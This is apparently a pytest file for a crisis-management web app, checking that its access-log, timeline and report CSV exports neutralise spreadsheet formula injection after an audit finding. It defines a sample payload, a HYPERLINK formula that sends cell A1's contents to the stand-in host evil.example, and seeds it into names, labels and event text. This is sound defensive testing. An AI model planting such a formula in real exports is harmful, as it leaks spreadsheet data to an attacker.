"""Finding 2 (issue 14): every CSV the product writes neutralises cells a spreadsheet would run as a formula
(OWASP "CSV injection"): the access log, the timeline and the report tables."""

from __future__ import annotations

import csv
import io

import pytest

from crisis.core.csvsafe import safe_cell
from crisis.timeline.models import AccessLog
from crisis.timeline.services import record_event
from tests.conftest import login

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_neutralised(all_cells: list[str], expected: int) -> None:
    poisoned = [c for c in all_cells if "HYPERLINK" in c]
    assert len([c for c in poisoned if c.startswith("'=")]) >= expected, all_cells
    assert not [c for c in all_cells if c.startswith(DANGEROUS) and not c.lstrip("-").replace(",", "").isdigit()]


@pytest.mark.parametrize("value", ["=1+1", "+46701740690", "-2+3", "@SUM(A1)", "\t=1", "\r=1", ATTACK])
def test_a_cell_a_spreadsheet_would_run_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "-1,5", "12", "Farsta", "", None, 7])
def test_figures_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == ("" if value is None else value)


@pytest.fixture
def poisoned(session, create_district, create_user, create_incident, create_relative):
    """Every free text that reaches a CSV holds the attack: staff name, record label, reason, event text."""
    district = create_district("farsta", name=ATTACK)
    manager = create_user("manager", district=district, name=ATTACK)
    incident = create_incident(district=district, coordinator=manager, assigned=[manager])
    relative = create_relative(incident, label=ATTACK[:60])
    session.add(AccessLog(user_id=manager.id, relative_id=relative.id, incident_id=incident.id, action="view",
                          reason=ATTACK, assigned=False))
    record_event(session, kind="incident", type="incident.note", actor=manager, incident_id=incident.id,
                 subject=relative, summary=ATTACK, data={})
    session.commit()
    return {"manager": manager, "incident": incident}


def test_the_access_log_csv_neutralises_formulas(client, poisoned):
    login(client, poisoned["manager"].email)
    # Staff name, record label and reason.
    assert_neutralised(cells(client.get("/access-log.csv")), expected=3)


def test_the_timeline_csv_neutralises_formulas(client, poisoned):
    login(client, poisoned["manager"].email)
    # The event's text and who did it, and the access entry's who, record and reason.
    assert_neutralised(cells(client.get(f"/incidents/{poisoned['incident'].id}/timeline.csv")), expected=3)


def test_the_report_csv_neutralises_formulas(client, poisoned):
    login(client, poisoned["manager"].email)
    assert_neutralised(cells(client.get("/reports/incidents.csv")), expected=1)  # the district's name
